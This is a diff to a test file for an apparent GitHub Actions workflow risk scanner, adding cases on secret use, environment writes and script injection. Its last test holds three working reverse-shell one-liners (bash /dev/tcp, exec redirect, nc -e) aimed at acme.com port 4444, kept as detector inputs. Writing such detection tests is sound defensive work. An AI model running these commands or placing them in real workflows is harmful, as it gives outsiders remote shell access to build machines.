@@ -59,8 +59,35 @@ test.each([
   [
     'a secret that is asked for and given',
     workflow('{ name: a, uses: acme/a@v1 }'),
-    workflow(`{ name: a, uses: acme/a@v1, with: { user: "\${{ secrets.USER != '' && secrets.USER || '' }}" } }`),
+    workflow(`{ name: a, uses: acme/a@v1, with: { key: "\${{ secrets.KEY != '' && secrets.KEY || '' }}" } }`),
     ['config/workflow-script-risk secret-given'],
+  ],
+  [
+    'who somebody is, kept as a secret',
+    workflow('{ name: a, uses: acme/a@v1 }'),
+    workflow('{ name: a, uses: acme/a@v1, with: { user: "${{ secrets.REGISTRY_USERNAME }}" } }'),
+    [],
+  ],
+  [
+    'a secret that is called after the owner of the action',
+    workflow('{ name: a, uses: acme/a@v1 }'),
+    workflow('{ name: a, uses: acme/a@v1, with: { key: "${{ secrets.ACME_API_KEY }}" } }'),
+    [],
+  ],
+  [
+    'a secret that stood there in clear text',
+    workflow('{ name: a, run: ./send, env: { SHOP_API_KEY: 1a92b8d8ee43 } }'),
+    workflow('{ name: a, uses: acme/a@v1, with: { key: "${{ secrets.SHOP_API_KEY }}" } }'),
+    [],
+  ],
+  [
+    'another step of an action that had the secret',
+    workflow('{ name: a, uses: acme/a@v1, with: { key: "${{ secrets.SHOP_API_KEY }}" } }'),
+    workflow(
+      '{ name: a, uses: acme/a@v1, with: { key: "${{ secrets.SHOP_API_KEY }}" } }',
+      '{ name: b, uses: acme/a@v1, with: { key: "${{ secrets.SHOP_API_KEY }}" } }',
+    ),
+    [],
   ],
   [
     'what a step called secrets put out, given to an action',
@@ -97,4 +124,33 @@ test('the text of a script is no part of any fact', async () => {
       await findingsOf(config, workflow(script('a', 'make')), after, { path: '.github/workflows/ci.yml' }),
     ),
   ).not.toContain('hunter2');
+});
+
+const strange = (event: string, run: string): string =>
+  `on: ${event}\njobs:\n  build:\n    steps:\n      - { name: a, run: ${JSON.stringify(run)} }\n`;
+const ENVIRONMENT = 'config/workflow-script-risk environment';
+
+test.each([
+  ['as it wrote before', strange('pull_request', 'echo A=$B >> $GITHUB_ENV'), 'echo A=$B >> $GITHUB_ENV', []],
+  ['something else', strange('pull_request', 'echo A=$C >> $GITHUB_ENV'), 'echo A=$B >> $GITHUB_ENV', [ENVIRONMENT]],
+  ['a number', strange('pull_request', 'make'), 'echo "A=${{ github.event.number }}" >> $GITHUB_ENV', []],
+  [
+    'a title',
+    strange('pull_request', 'make'),
+    'echo "A=${{ github.event.issue.title }}" >> $GITHUB_ENV',
+    ['config/workflow-script-risk injection'],
+  ],
+])('a script that strangers now start writes %s to the environment', async (_, before, run, expected) => {
+  const findings = await said(before, strange('pull_request_target', run));
+  expect(findings.filter((each) => each.startsWith('config/workflow-script-risk'))).toEqual(expected);
+});
+
+test.each([
+  ['bash -i >& /dev/tcp/acme.com/4444 0>&1', ['config/workflow-script-risk remote-shell']],
+  ['0<&196;exec 196<>/dev/tcp/acme.com/4444; sh <&196 >&196 2>&196 | sh', ['config/workflow-script-risk remote-shell']],
+  ['nc -e /bin/sh acme.com 4444', ['config/workflow-script-risk remote-shell']],
+  ['until (exec 3<>/dev/tcp/127.0.0.1/80); do sleep 1; done', []],
+  ['timeout 1 bash -c "</dev/tcp/db/5432"', []],
+])('a script runs %j', async (run, expected) => {
+  expect(await said(workflow(script('a', 'make')), workflow(script('a', run)))).toEqual(expected);
 });
